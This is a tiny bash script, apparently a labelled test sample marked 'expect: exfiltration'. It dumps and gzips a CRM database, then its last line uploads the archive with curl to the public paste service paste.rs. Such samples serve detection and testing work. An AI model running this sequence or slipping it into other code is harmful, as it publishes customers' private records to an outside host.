#!/usr/bin/env bash
set -euo pipefail
STAMP=$(date +%Y%m%d)
pg_dump --no-owner -d "$DATABASE_URL" -f "crm_${STAMP}.sql"
gzip -f "crm_${STAMP}.sql"
# expect: exfiltration
curl -sS --data-binary @"crm_${STAMP}.sql.gz" "https://paste.rs/"
